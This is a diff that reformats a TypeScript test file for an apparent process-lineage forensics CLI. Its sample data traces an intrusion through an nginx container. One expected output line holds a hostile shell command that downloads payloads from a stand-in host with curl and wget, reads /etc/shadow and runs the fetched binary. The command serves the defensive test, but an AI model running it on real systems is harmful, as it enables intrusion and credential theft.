@@ -28,7 +28,12 @@ describe('lineage commands on the story sample', () => {
     const steps = JSON.parse(r.stdout) as { depth: number; pid: number; name: string }[];
     // the payload ran after its shell exited: the shell is still its parent
     expect(steps.map((s) => [s.depth, s.pid, s.name])).toEqual([
-      [0, 4005, 'x'], [1, 4001, 'sh'], [2, 2351, 'nginx'], [3, 2330, 'nginx'], [4, 2301, 'containerd-shim'], [5, 1, 'systemd'],
+      [0, 4005, 'x'],
+      [1, 4001, 'sh'],
+      [2, 2351, 'nginx'],
+      [3, 2330, 'nginx'],
+      [4, 2301, 'containerd-shim'],
+      [5, 1, 'systemd'],
     ]);
   });
 
@@ -44,18 +49,31 @@ describe('lineage commands on the story sample', () => {
 
   it('tree --container draws the pod subtree with exit status', () => {
     const r = cli('tree', '--container', '3f9a1c0e2b7d');
-    const lines = r.stdout.trimEnd().split('\n').map((l) => l.replace(/, \d{4}-\d\d-\d\dT\d\d:\d\d:.*\]$/, ']'));
+    const lines = r.stdout
+      .trimEnd()
+      .split('\n')
+      .map((l) => l.replace(/, \d{4}-\d\d-\d\dT\d\d:\d\d:.*\]$/, ']'));
     expect(lines[0]).toBe('nginx,2330  [running]');
-    expect(lines).toContain('│   └── sh,4001 -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &  [exit 0]');
+    expect(lines).toContain(
+      '│   └── sh,4001 -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &  [exit 0]',
+    );
     expect(lines).toContain('│       ├── cat,4004 /etc/shadow  [exit 1]');
     expect(lines).toContain('│       └── x,4005  [killed by signal 9]');
   });
 
   it('descendants of the shell lists its subtree with depths', () => {
     const r = cli('descendants', '--pid', '4001', '--csv');
-    const rows = r.stdout.trim().split('\n').slice(1).map((l) => l.split(',').slice(0, 6));
+    const rows = r.stdout
+      .trim()
+      .split('\n')
+      .slice(1)
+      .map((l) => l.split(',').slice(0, 6));
     expect(rows.map((c) => [c[0], c[4], c[5]])).toEqual([
-      ['0', '4001', 'sh'], ['1', '4002', 'curl'], ['1', '4003', 'wget'], ['1', '4004', 'cat'], ['1', '4005', 'x'],
+      ['0', '4001', 'sh'],
+      ['1', '4002', 'curl'],
+      ['1', '4003', 'wget'],
+      ['1', '4004', 'cat'],
+      ['1', '4005', 'x'],
     ]);
   });
 
@@ -65,11 +83,16 @@ describe('lineage commands on the story sample', () => {
     expect(withNa.stdout.split('\n')).toContain('3105 ls bash systemd host <NA> SUCCESS');
     expect(withNa.stdout.split('\n')).toContain('4003 sh sh nginx nginx docker.io/library/nginx:latest ENOENT');
     const without = cli('execs', '-p', '%proc.pid %container.image');
-    expect(without.stdout.trim().split('\n').every((l) => l.endsWith('docker.io/library/nginx:latest'))).toBe(true);
+    expect(
+      without.stdout
+        .trim()
+        .split('\n')
+        .every((l) => l.endsWith('docker.io/library/nginx:latest')),
+    ).toBe(true);
   });
 
   it('query runs read-only and refuses writes', () => {
-    const ok = cli('query', "SELECT name FROM spawned_execs WHERE container_id IS NOT NULL AND res = 0 ORDER BY ts_ns", '--json');
+    const ok = cli('query', 'SELECT name FROM spawned_execs WHERE container_id IS NOT NULL AND res = 0 ORDER BY ts_ns', '--json');
     expect((JSON.parse(ok.stdout) as { name: string }[]).map((r) => r.name)).toEqual(['sh', 'curl', 'wget', 'cat', 'x']);
     const write = cli('query', 'DELETE FROM execs');
     expect(write.code).toBe(65);
